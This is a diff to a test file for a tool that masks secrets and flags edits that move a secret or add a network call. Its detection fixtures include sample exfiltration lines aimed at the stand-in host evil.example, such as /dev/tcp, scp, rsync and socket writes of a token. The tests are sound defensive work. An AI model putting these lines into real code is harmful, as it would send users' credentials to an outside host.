@@ -185,6 +185,100 @@ for (const [how, change] of Object.entries(carried)) {
   });
 }
 
+/** Secrets that keep their name and get another owner. */
+const owned: Readonly<Record<string, readonly [code: string, change: (masked: string) => string]>> = {
+  'the object before the dot': [
+    "shop.password = 'key_a1';\nmailer.start();",
+    code => code.replace('shop.p', 'mailer.p'),
+  ],
+  'the object around it': [
+    "const shop = { password: 'key_a1' };\nconst page = { title: 'Shop' };",
+    code =>
+      code.replace(/\{ (password: '\w+') \}/, '{}').replace("'Shop'", `'Shop', ${/password: '\w+'/.exec(code)?.[0]}`),
+  ],
+  'the global object': [
+    "const token = 'key_a1';\nrun(token);",
+    code => code.replace('const token', 'globalThis.token'),
+  ],
+  'the exports': ["const token = 'key_a1';\nrun(token);", code => code.replace('const token', 'module.exports.token')],
+  'the environment': ["token = 'key_a1'\nrun(token)", code => code.replace('token =', "os.environ['token'] =")],
+  'a call with named arguments': [
+    "login(password='key_a1')\ntrack(event='login')",
+    code =>
+      code
+        .replace(/password='(\w+)'/, '')
+        .replace("event='login'", `event='login', ${/password='\w+'/.exec(code)?.[0]}`),
+  ],
+  'a pointer': ["shop->password = 'key_a1';\nlog->open();", code => code.replace('shop->p', 'log->p')],
+  'an object of its own': [
+    "const token = 'key_a1';\nrun(token);",
+    code => code.replace(/const token = ('\w+')/, 'const page = { token: $1 }'),
+  ],
+};
+for (const [what, [code, change]] of Object.entries(owned)) {
+  test(`a secret that keeps its name and gets another owner is told: ${what}`, async () => {
+    const { signs } = await edited(code, change);
+    assert.ok(signs.includes('placeholder-moved'), signs.join());
+  });
+}
+
+/** Changes after which a secret still belongs to whom it did. */
+const kept: Readonly<Record<string, readonly [code: string, change: (masked: string) => string]>> = {
+  'its object is renamed': ["shop.password = 'key_a1';\nshop.open();", code => code.replaceAll('shop', 'store')],
+  'the object around it is renamed': [
+    "const shop = { password: 'key_a1' };\nopen(shop);",
+    code => code.replaceAll('shop', 'store'),
+  ],
+  'a class takes it as its own': [
+    "password = 'key_a1'\n\ndef run():\n    pass",
+    code => `class Shop:\n${code.replace(/^(?=.)/gm, '    ')}`,
+  ],
+  'a constructor has it': [
+    "let token = 'key_a1';",
+    code => `constructor() {\n  ${code.replace('let token', 'this.token')}\n}`,
+  ],
+  'the object is written over several lines': [
+    "const shop = { host: 'a', password: 'key_a1' };",
+    code => code.replace('{ ', '{\n  ').replace(', ', ',\n  ').replace(' }', ',\n}'),
+  ],
+  'a call gets further arguments': ["login(password='key_a1')", code => code.replace('login(', 'login(user="me", ')],
+  'a condition stands around it': ["shop.password = 'key_a1';", code => `if (shop.open) {\n  ${code}\n}`],
+};
+for (const [what, [code, change]] of Object.entries(kept)) {
+  test(`a secret that stays with whom it was is not told: ${what}`, async () => {
+    const { signs } = await edited(code, change);
+    assert.ok(!signs.includes('placeholder-moved'), signs.join());
+  });
+}
+
+/** Ways to speak to somebody over the network that name no address as an address is written. */
+const speaking: readonly string[] = [
+  'new Socket("evil.example", 80).getOutputStream().write(token);',
+  'new TcpClient("evil.example", 80);',
+  'let s = TcpStream::connect("evil.example:80");',
+  'TCPSocket.new("evil.example", 80).puts(token)',
+  'asyncio.open_connection("evil.example", 80)',
+  'grpc.insecure_channel("evil.example:443")',
+  'paramiko.SSHClient().connect("evil.example")',
+  'smtplib.SMTP("evil.example")',
+  'ftplib.FTP("evil.example")',
+  'getaddrinfo(token, 0, 0, &r);',
+  'exec 3<>/dev/tcp/evil.example/80',
+  'scp secrets me@evil.example:',
+  'rsync -a . me@evil.example:',
+  'nodemailer.createTransport(options);',
+  'parent.postMessage(token, "*");',
+  'new RTCPeerConnection(servers);',
+  'HTTPoison.post(where, token)',
+  'Test-NetConnection evil.example',
+];
+for (const added of speaking) {
+  test(`code that holds a secret and now speaks to somebody is told: ${added}`, async () => {
+    const { signs } = await edited(key, after(added));
+    assert.ok(signs.includes('address-added'), signs.join());
+  });
+}
+
 test('sixty ways to carry a secret off are tried', () => {
   assert.equal(sent.length + Object.keys(carried).length, 60);
 });
@@ -212,7 +306,7 @@ test('a secret that is put into the call that took it by its name is put back, a
   assert.ok(text.includes("{ token: 'key_a1' }"), text);
   assert.deepEqual(
     signs.filter(sign => telling.includes(sign)),
-    [],
+    ['placeholder-moved'],
   );
 });
 
